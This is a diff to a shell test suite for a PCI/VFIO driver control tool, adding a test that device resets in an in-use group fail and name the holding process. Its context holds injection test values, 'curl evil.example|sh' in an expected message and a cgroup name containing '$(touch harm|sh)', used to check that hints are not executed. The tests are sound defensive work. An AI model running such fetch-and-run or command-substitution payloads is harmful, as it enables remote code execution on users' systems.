@@ -396,6 +396,20 @@ bind_with_fault()
 	ctl driver reset 0000:03:01.0
 }
 
+@test "a device of a group that is in use gets no driver of the kernel's own: the user is named" {
+	ctl driver set 0000:03:01.0 0000:03:02.0 vfio-pci
+	ctl context create test
+	ctl device add 0000:03:01.0
+	status 1 ctl driver reset 0000:03:02.0
+	says "pid $(holder_pid test)"
+	says 'of 0000:03:01.0 open'
+	says '03:02.0: everything was put back: driver vfio-pci'
+	[[ $(readlink -f /sys/bus/pci/devices/0000:03:02.0/driver) == */vfio-pci ]]
+	ctl context destroy test
+	ctl driver reset 0000:03:01.0 0000:03:02.0
+	[[ $(readlink -f /sys/bus/pci/devices/0000:03:02.0/driver) == */e1000 ]]
+}
+
 @test "a device that another process holds: the message names it" {
 	context
 	ctl context create other
@@ -1006,6 +1020,7 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 }
 
 # A user's processes with the device open, in a control group and with a name that a shell would run.
+# shellcheck disable=SC2016,SC2217	# for nobody to expand; a file that is only open
 @test "names of others in hints do no harm" {
 	local group='/sys/fs/cgroup/$(touch harm|sh).service' pid node
 
